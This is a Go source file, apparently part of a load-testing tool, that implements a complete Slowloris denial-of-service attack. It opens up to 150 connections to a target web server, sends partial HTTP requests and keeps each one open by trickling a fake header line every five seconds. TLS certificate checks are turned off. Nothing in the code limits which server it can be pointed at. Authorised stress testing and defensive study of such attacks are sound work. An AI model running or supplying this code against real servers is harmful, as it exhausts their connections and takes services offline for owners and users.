package httpmethods

import (
	"context"
	"crypto/tls"
	"fmt"
	"net"
	"net/url"
	"time"

	"github.com/Gh05t666nero/nrtf/internal/core/domain"
	"github.com/Gh05t666nero/nrtf/internal/logger"
	"github.com/Gh05t666nero/nrtf/internal/worker"
)

const (
	maxLorisSockets  = 150
	lorisKeepalive   = 5 * time.Second
	lorisDialTimeout = 5 * time.Second
)

// SlowLoris holds connections open with deliberately incomplete requests,
// trickling one partial header line per socket on a fixed cadence.
type SlowLoris struct {
	log *logger.StyledLogger
}

func NewSlowLoris(log *logger.StyledLogger) *SlowLoris {
	return &SlowLoris{log: log}
}

func (m *SlowLoris) Name() string { return "SLOW_LORIS" }

func (m *SlowLoris) Prepare(params *domain.TestParameters) error {
	params.Target = domain.NormalizeHTTPTarget(params.Target)
	u, err := url.Parse(params.Target)
	if err != nil || u.Hostname() == "" {
		return domain.NewValidationError("target", "target is not a valid URL")
	}
	if len(params.Proxies) > 0 {
		m.log.Warn("proxies are not supported for SLOW_LORIS, running direct", "proxies", len(params.Proxies))
		params.Proxies = nil
	}
	return nil
}

type lorisSocket struct {
	conn    net.Conn
	release func()
}

func (s *lorisSocket) close() {
	s.release()
	s.conn.Close()
}

func (m *SlowLoris) RunUnit(ctx context.Context, run *worker.TestRun) {
	u, err := url.Parse(run.Params.Target)
	if err != nil {
		run.Metrics.RecordFail()
		return
	}
	host := u.Hostname()
	port := u.Port()
	isTLS := u.Scheme == "https"
	if port == "" {
		if isTLS {
			port = "443"
		} else {
			port = "80"
		}
	}
	path := u.Path
	if path == "" {
		path = "/"
	}
	addr := net.JoinHostPort(host, port)

	var sockets []*lorisSocket
	defer func() {
		for _, s := range sockets {
			s.close()
		}
	}()

	// build the pool first, then keep it alive
	for ctx.Err() == nil && len(sockets) < maxLorisSockets {
		s, err := m.open(ctx, run, addr, host, path, isTLS)
		if err != nil {
			run.Metrics.RecordFail()
			sleepCtx(ctx, 500*time.Millisecond)
			continue
		}
		if s == nil {
			// shutdown refused the registration
			return
		}
		sockets = append(sockets, s)
		run.Metrics.RecordSent()
		run.Metrics.RecordSuccess()
		sleepCtx(ctx, 100*time.Millisecond)
	}

	ticker := time.NewTicker(lorisKeepalive)
	defer ticker.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-ticker.C:
			live := sockets[:0]
			for i, s := range sockets {
				if _, err := fmt.Fprintf(s.conn, "X-a: %d\r\n", i); err != nil {
					s.close()
					run.Metrics.RecordFail()
					continue
				}
				run.Metrics.RecordBytes(10)
				live = append(live, s)
			}
			sockets = live
		}
	}
}

// open dials one socket and sends the partial request. A nil socket with nil
// error means the resource tracker refused the registration.
func (m *SlowLoris) open(ctx context.Context, run *worker.TestRun, addr, host, path string, isTLS bool) (*lorisSocket, error) {
	d := net.Dialer{Timeout: lorisDialTimeout}
	conn, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, err
	}
	release, ok := run.Track(conn)
	if !ok {
		conn.Close()
		return nil, nil
	}

	if isTLS {
		tconn := tls.Client(conn, &tls.Config{InsecureSkipVerify: true, ServerName: host})
		if err := tconn.HandshakeContext(ctx); err != nil {
			release()
			conn.Close()
			return nil, err
		}
		conn = tconn
	}

	partial := fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\n", path, host, userAgents[0])
	if _, err := conn.Write([]byte(partial)); err != nil {
		release()
		conn.Close()
		return nil, err
	}
	run.Metrics.RecordBytes(len(partial))
	return &lorisSocket{conn: conn, release: release}, nil
}
